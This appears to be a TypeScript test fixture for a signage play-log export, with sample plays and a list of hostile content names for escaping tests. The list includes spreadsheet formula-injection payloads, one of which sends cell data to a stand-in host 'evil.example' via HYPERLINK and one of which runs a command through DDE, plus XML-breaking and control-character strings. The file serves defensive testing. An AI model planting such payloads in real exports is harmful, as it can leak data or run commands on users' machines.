/** Plays as exports are given them, and the names that nobody should be able to hurt anyone with. */
import { localTimestamp } from '../../../domain/time/zone-time.ts';
import type { ExportedPlay } from '../../../server/export/exported-plays.ts';
import { shaOf } from '../../helpers/chain-builder.ts';

/** A play of 10 s on `screen-1` in Shanghai at 08:00; `over` changes what a test is about. */
export function exportedPlay(over: Partial<ExportedPlay> = {}, timeZone = 'Asia/Shanghai'): ExportedPlay {
  const startMs = over.startMs ?? Date.parse('2026-07-01T08:00:00+08:00');
  const endMs = over.endMs ?? startMs + 10_000;
  return {
    screenId: 'screen-1',
    screenName: '一号屏',
    device: shaOf('device'),
    epoch: 1,
    seq: 1,
    date: '2026-07-01',
    startMs,
    endMs,
    startLocal: localTimestamp(startMs, timeZone),
    endLocal: localTimestamp(endMs, timeZone),
    item: 'm-0123456789abcdef',
    itemName: '入户听民声，服务暖民心',
    sha: shaOf('film'),
    campaign: 'visits',
    commitment: 'visits.min.f1',
    outcome: 'complete',
    reason: 'scheduled',
    counted: true,
    shot: null,
    recordSha: shaOf('record'),
    ...over,
  };
}

/** Names that somebody could give to content or a screen. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"春节")',
  "+cmd|'/c calc'!A1",
  '-2+3',
  '@SUM(A1:A9)',
  '＝1＋1',
  '\t=1+1',
  '\r\n=1+1',
  '海报;=1+1',
  '海报; @SUM(A1)',
  '海报\n=1+1',
  '"quoted", and more',
  '</contentId><contentPlayed>&bogus;]]><!-- <![CDATA[',
  'nul\u0000 bell\u0007 escape\u001B delete\u007F',
  'half \uD800 of a pair \uDC00, no characters \uFFFE\uFFFF',
  '\u202Egnp.elif 😀 𠮷',
] as const;

/** A day of two screens: every way a play can end, hostile names, and a night in which clocks went back. */
export const SAMPLE_PLAYS: readonly ExportedPlay[] = [
  exportedPlay(),
  exportedPlay({ seq: 2, startMs: Date.parse('2026-07-01T08:00:10+08:00'), outcome: 'cut', counted: false }),
  exportedPlay({ seq: 3, startMs: Date.parse('2026-07-01T08:00:15+08:00'), outcome: 'failed', counted: false }),
  exportedPlay({
    screenId: 'lobby.2',
    screenName: '=1+1',
    itemName: 'A, "B" & <C>',
    seq: 4,
    startMs: Date.parse('2026-07-01T08:00:20.500+08:00'),
    campaign: null,
    commitment: null,
    reason: 'filler',
  }),
  exportedPlay({ seq: 5, startMs: Date.parse('2026-07-01T08:00:30+08:00'), counted: false }),
  ...[Date.parse('2026-10-25T02:59:55+02:00'), Date.parse('2026-10-25T02:59:55+01:00')].map((startMs, k) =>
    exportedPlay({ seq: 6 + k, date: '2026-10-25', startMs, reason: 'make-good' }, 'Europe/Berlin'),
  ),
];

/** When the files of the samples were made. */
export const SAMPLES_AT_MS = Date.parse('2026-11-01T00:00:00.789Z');
